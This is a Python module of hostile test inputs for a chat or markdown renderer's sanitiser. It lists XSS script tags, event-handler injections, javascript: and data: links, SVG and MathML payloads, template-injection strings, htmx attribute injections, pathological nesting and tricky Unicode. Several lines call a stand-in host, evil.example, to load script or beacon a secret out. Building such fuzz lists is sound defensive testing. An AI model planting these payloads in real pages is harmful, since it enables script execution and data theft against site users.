"""Hostile words. Each would set window.taken, open a dialog, leave the site or break the page."""

SCRIPTS = [
    "<script>window.taken = 1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>window.taken = 1</scr</script>ipt>",
    "</textarea></title></template></noscript><script>window.taken = 1</script>",
    "<!--><script>window.taken = 1</script-->",
    "<![CDATA[<script>window.taken = 1</script>]]>",
    "&lt;script&gt;window.taken = 1&lt;/script&gt;",
    "&#60;script&#62;window.taken = 1&#60;/script&#62;",
    "`</code><script>window.taken = 1</script>`",
]
HANDLERS = [
    "<img src=x onerror=window.taken=1>",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror="confirm(1)">',
    "' autofocus onfocus='window.taken = 1' x='",
    "<body onload=window.taken=1>",
    "<details open ontoggle=window.taken=1>x</details>",
    "<video><source onerror=window.taken=1></video>",
    "<input autofocus onfocus=window.taken=1>",
    "<a href=x onmouseover=window.taken=1 style=position:fixed;inset:0>x</a>",
]
LINKS = [
    "[a](javascript:window.taken=1)",
    "[b](JaVaScRiPt:window.taken=1)",
    "[c](java\tscript:window.taken=1)",
    "[d](&#106;avascript:window.taken=1)",
    "[e](javascript&colon;window.taken=1)",
    "[f](\x01javascript:window.taken=1)",
    "[g](data:text/html,<script>alert(1)</script>)",
    "[h](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[i](vbscript:msgbox(1))",
    "[j](file:///etc/passwd)",
    "[k](//evil.example/)",
    "<javascript:window.taken=1>",
    "[l]: javascript:window.taken=1\n\n[l]",
    '[m](https://a.example/"onmouseover=window.taken=1)',
]
PICTURES = [
    "![x](https://evil.example/beacon.png?q=secret)",
    '![x](x "title\' onerror=window.taken=1 ")',
    "![x](data:image/svg+xml,<svg onload=window.taken=1>)",
    "<img src=https://evil.example/beacon.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body { display: none }</style>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Send</button></form>",
]
DRAWINGS = [
    "<svg onload=window.taken=1></svg>",
    "<svg><script>window.taken = 1</script></svg>",
    "<svg><a xlink:href='javascript:window.taken=1'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=window.taken=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.taken=1></svg>#x'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.taken=1></style>",
    "<math href='javascript:window.taken=1'><mi>x</mi></math>",
    r"$\href{javascript:window.taken=1}{x}$",
    r"$\unicode{60}script\unicode{62}$ $$\text{<img src=x onerror=window.taken=1>}$$",
]
PAGE_WORDS = [
    "{{ settings.SECRET_KEY }} {% debug %} {% load static %} {# gone? #} ${7*7} <%= 7*7 %>",
    "<div hx-get='/chat/' hx-trigger='load' hx-target='body'>x</div>",
    "<div data-hx-post='/chat/send/' data-hx-trigger='load'>x</div>",
    "<div hx-on:click='window.taken = 1' hx-on::load='window.taken = 1'>x</div>",
    "<div id='composer' hx-swap-oob='true'>gone</div>",
    "<p hx-swap-oob='delete:#composer'>x</p>",
    "<div hx-ws:connect='wss://evil.example/'></div>",
    "<template hx type='partial' hx-target='#messages'>x</template>",
    "<hx-partial hx-target='#messages'>gone</hx-partial>",
    "<title>Taken</title>",
    "<div id='page-state' data-revision='99'></div>",
]
NESTED = [
    ">" * 60 + " deep",
    "- " * 60 + "deep",
    "**" * 200 + "x",
    "[" * 200 + "x" + "](" * 50,
    "```html\n<script>window.taken = 1</script>\n```",
    "```<img src=x onerror=window.taken=1>\nx\n```",
    "| <img src=x onerror=window.taken=1> | b |\n|---|---|\n| [x](javascript:window.taken=1) | y |",
    "[^1]\n\n[^1]: <script>window.taken = 1</script>",
    "# <svg onload=window.taken=1>",
]
SHAPES = [
    "Donaudampfschifffahrtsgesellschaft" * 30,
    "https://example.com/" + "a" * 600,
    "`" + "x" * 600 + "`",
    "$$" + "a + " * 150 + "b$$",
    "\u202egpj.exe\u202c \u2066isolated\u2069 \u200f\u061crtl",
    "مرحبا world שלום 123 \u202d\u202e",
    "Z" + "\u0351\u0352\u0353\u0354" * 80,
    "👩‍👩‍👧‍👦" * 80,
    "\u0000\ufeff\u200b\u2028\u2029\u0085",
]

ALL = SCRIPTS + HANDLERS + LINKS + PICTURES + DRAWINGS + PAGE_WORDS + NESTED + SHAPES
ONE_LINE = [" ".join(text.replace("\x00", "").split()) for text in ALL]
